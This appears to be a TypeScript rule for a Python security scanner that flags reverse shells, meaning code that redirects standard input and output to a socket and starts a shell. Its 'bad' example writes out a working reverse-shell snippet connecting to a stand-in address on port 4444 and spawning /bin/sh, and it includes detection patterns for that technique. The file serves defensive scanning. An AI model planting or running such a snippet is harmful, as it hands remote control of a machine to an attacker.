import { argument, hasSpread } from '../flow/call.ts';
import { example, pythonRule } from '../python-rule.ts';

export const reverseShell = pythonRule({
  id: 'python/reverse-shell',
  title: 'Shell whose input is a network connection',
  severity: 'critical',
  confidence: 'likely',
  weakness: ['CWE-553'],
  kind: 'security',
  what: 'The standard input and output are replaced by a socket, and a shell is started.',
  why: 'Whoever listens at the other end commands the machine: the usual last step of an attack.',
  fix: 'Remove it, and find out how it came here.',
  bad: [
    example(
      'import os, pty, socket',
      's = socket.socket()',
      's.connect(("203.0.113.9", 4444))',
      'os.dup2(s.fileno(), 0)',
      'pty.spawn("/bin/sh")',
    ),
  ],
  good: [example('import os', 'os.dup2(log.fileno(), 1)')],
  words: /\bdup2\b/,
  calls: {
    dup2(call, look) {
      const socketLike = /\bsocket\b|\bs(ock)?\b/.test(argument(call, 0)?.value.name ?? '');
      if (
        call.name === 'os.dup2' &&
        socketLike &&
        !hasSpread(call) &&
        /["'](\/bin\/)?(ba|z|da)?sh["']/.test(look.file.text)
      )
        look.report(call.node, { message: 'A network connection becomes the input of a shell' });
    },
  },
});
